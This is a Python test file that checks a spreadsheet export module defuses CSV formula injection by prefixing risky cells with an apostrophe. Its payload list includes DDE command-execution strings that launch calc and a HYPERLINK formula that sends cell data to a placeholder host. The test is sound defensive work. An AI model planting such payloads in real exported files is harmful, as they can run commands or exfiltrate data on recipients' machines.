"""Nothing in a CSV of ours is computed by the program that opens it, and nothing is lost."""

from __future__ import annotations

import csv
import io
import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from visitsync.web import spreadsheet

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?x="&A1,"見る")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "-",
    "=",
    "\t",
    '="a"\r\n,b',
    "-2+3+cmd|' /C calc'!D2",
    "%0A=1+1".replace("%0A", "\n"),
]
BEGINS = "=+-@\t\r\n＝＋－＠"


def read(written: bytes) -> list[list[str]]:
    """As a program reads it that follows RFC 4180."""
    return list(csv.reader(io.StringIO(written.decode(), newline=""), strict=True))


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_begins_like_a_formula(cell: str) -> None:
    for line in ([cell], ["a", cell], [cell, "b"], ["a", cell, "b"]):
        (found,) = read(spreadsheet.rows([line]))
        assert not any(one.startswith(tuple(BEGINS)) for one in found)
        assert [one.removeprefix("'") for one in found] == line


def test_control_without_the_apostrophe_each_would_be_one() -> None:
    assert all(one.startswith(tuple(BEGINS)) for one in FORMULAS)
    assert {one[0] for one in FORMULAS} == set(BEGINS)


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8"), min_size=1), min_size=1)))
def test_whatever_the_cells_are_they_are_read_back(lines: list[list[str]]) -> None:
    found = read(spreadsheet.rows(lines))
    assert [[spreadsheet.neutral(cell) for cell in line] for line in lines] == found
    cells = itertools.chain.from_iterable(found)
    assert not any(one.startswith(tuple(BEGINS)) for one in cells)


def test_lines_end_as_rfc_4180_has_it_and_quotes_are_doubled() -> None:
    assert spreadsheet.rows([["a", 'b"c', "d,e", "f\ng"], ["x"]]) == (
        b'a,"b""c","d,e","f\ng"\r\nx\r\n'
    )
